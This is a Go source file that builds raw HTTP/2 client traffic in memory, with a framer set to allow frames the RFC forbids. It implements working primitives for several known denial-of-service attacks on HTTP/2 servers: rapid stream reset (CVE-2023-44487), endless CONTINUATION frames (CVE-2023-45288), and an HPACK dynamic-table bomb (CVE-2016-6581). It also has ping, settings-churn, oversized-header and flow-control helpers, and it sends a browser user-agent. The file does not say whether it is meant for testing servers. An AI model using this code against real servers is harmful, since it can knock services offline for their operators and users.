package main

import (
	"bytes"
	"strconv"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// wire writes what a client of HTTP/2 sends, as it should be or not. Nothing can fail: it is
// written to memory, and frames that the RFC forbids are allowed.
type wire struct {
	out    bytes.Buffer
	frames *http2.Framer
	block  bytes.Buffer
	fields *hpack.Encoder
}

func newWire() *wire {
	w := &wire{}
	w.frames = http2.NewFramer(&w.out, nil)
	w.frames.AllowIllegalWrites = true
	w.fields = hpack.NewEncoder(&w.block)
	return w
}

// take is what was written since the last time. It is good until more is written.
func (w *wire) take() []byte {
	b := w.out.Bytes()
	w.out.Reset()
	return b
}

// begin is the preface of a connection (RFC 9113 3.4), with a window that takes all answers
// of the connection together.
func (w *wire) begin(settings ...http2.Setting) {
	w.out.WriteString(http2.ClientPreface)
	_ = w.frames.WriteSettings(settings...)
	_ = w.frames.WriteWindowUpdate(0, 1<<30)
}

// target is what is asked for.
type target struct {
	Method, Path, Cookie string
	Length               int // of the body that is announced; 0: there is none
}

// head is the block of a request's head.
func (w *wire) head(t target) []byte {
	w.block.Reset()
	w.field(":method", t.Method)
	w.field(":scheme", "https")
	w.field(":authority", serverName)
	w.field(":path", t.Path)
	w.field("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0)")
	if t.Cookie != "" {
		w.field("cookie", t.Cookie)
	}
	if t.Length > 0 {
		w.field("content-length", strconv.Itoa(t.Length))
	}
	return w.block.Bytes()
}

func (w *wire) field(name, value string) {
	_ = w.fields.WriteField(hpack.HeaderField{Name: name, Value: value}) // to memory
}

// request is one whose body, if there is one, follows.
func (w *wire) request(stream uint32, t target) {
	w.headers(stream, w.head(t), t.Length == 0, true)
}

func (w *wire) headers(stream uint32, block []byte, last, whole bool) {
	_ = w.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: last, EndHeaders: whole})
}

// reset takes a request back (CVE-2023-44487).
func (w *wire) reset(stream uint32) { _ = w.frames.WriteRSTStream(stream, http2.ErrCodeCancel) }

// endless is a head that goes on in CONTINUATION frames (CVE-2023-45288).
func (w *wire) endless(stream uint32, t target) { w.headers(stream, w.head(t), true, false) }

// further is such a frame, with one small field of its own.
func (w *wire) further(stream uint32) {
	w.block.Reset()
	_ = w.fields.WriteField(hpack.HeaderField{Name: "x-a", Value: "b", Sensitive: true}) // not in the table: each is as long
	_ = w.frames.WriteContinuation(stream, false, w.block.Bytes())
}

// fragment is how much of a head is in a frame: every server takes it (RFC 9113 4.2).
const fragment = 16 << 10

// large is a request with so many bytes of fields.
func (w *wire) large(stream uint32, t target, size int) {
	w.head(t)
	value := strings.Repeat("~", 1000) // Huffman's code makes it longer, so that it goes as it is
	for i := 0; w.block.Len() < size; i++ {
		w.field("x-large-"+strconv.Itoa(i), value)
	}
	block := w.block.Bytes()
	w.headers(stream, block[:fragment], true, false)
	for block = block[fragment:]; len(block) > 0; {
		n := min(len(block), fragment)
		_ = w.frames.WriteContinuation(stream, n == len(block), block[:n])
		block = block[n:]
	}
}

// bombed is how large a field of a bomb is: it has to fit into the table of 4,096 bytes,
// where each takes 32 more (RFC 7541 4.1).
const bombed = 3900

// bomb is a request whose head names one large field of the table again and again
// (CVE-2016-6581). The encoder's table keeps it, so that later ones are a byte each as well.
func (w *wire) bomb(stream uint32, t target) {
	w.head(t)
	w.field("x-bomb", strings.Repeat("~", bombed))
	for w.block.Len() < fragment-1 {
		w.block.WriteByte(0x80 | firstDynamic) // RFC 7541 6.1: the newest of the dynamic table
	}
	w.headers(stream, w.block.Bytes(), true, true)
}

// firstDynamic is the index of the newest field of the dynamic table (RFC 7541 2.3.3).
const firstDynamic = 62

func (w *wire) ping() { _ = w.frames.WritePing(false, [8]byte{'a', 'b', 'u', 's', 'e'}) }

// settings changes the windows of all streams there and back.
func (w *wire) settings(n int) {
	_ = w.frames.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1<<16 + n%2)})
}

// data is so many bytes of a body, or none.
func (w *wire) data(stream uint32, n int) {
	_ = w.frames.WriteData(stream, false, bytes.Repeat([]byte{'x'}, n))
}

// grant lets so many bytes of a stream's answer come.
func (w *wire) grant(stream uint32, n int) { _ = w.frames.WriteWindowUpdate(stream, uint32(n)) }
